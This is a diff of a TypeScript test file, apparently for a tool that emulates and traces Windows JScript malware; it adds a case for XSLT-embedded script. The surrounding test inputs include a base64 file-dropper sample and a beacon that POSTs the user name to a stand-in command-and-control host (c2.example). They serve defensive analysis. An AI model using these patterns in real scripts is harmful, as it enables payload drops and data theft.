@@ -72,6 +72,12 @@ const CASES: Readonly<Record<string, { readonly source: string; readonly check: 
       'var d=new ActiveXObject("MSXML2.DOMDocument.6.0"),e=d.createElement("b");e.dataType="bin.base64";e.text="aGVsbG8gd29ybGQ=";var s=new ActiveXObject("ADODB.Stream");s.Type=1;s.Open();s.Write(e.nodeTypedValue);s.SaveToFile("C:\\\\a.bin",2)',
     check: (trace) => assert.equal(Buffer.from(trace.dropped[0]?.bytes ?? []).toString(), 'hello world'),
   },
+  'script of a style sheet becomes a layer': {
+    source:
+      'var d=new ActiveXObject("MSXML2.DOMDocument.6.0");d.loadXML("<x><ms:script language=\'JScript\'><![CDATA[ r(1) ]]></ms:script></x>");d.transformNode(d)',
+    check: (trace) =>
+      assert.ok(trace.layers.some(({ technique, text }) => technique === 'xslt script' && text.trim() === 'r(1)')),
+  },
   'requests are recorded and answered': {
     source:
       'var h=new ActiveXObject("WinHttp.WinHttpRequest.5.1");h.Open("POST","https://c2.example/gate",false);h.setRequestHeader("User-Agent","x1");h.Send("id="+new ActiveXObject("WScript.Network").UserName);if(h.Status===200)WScript.Echo("ok")',
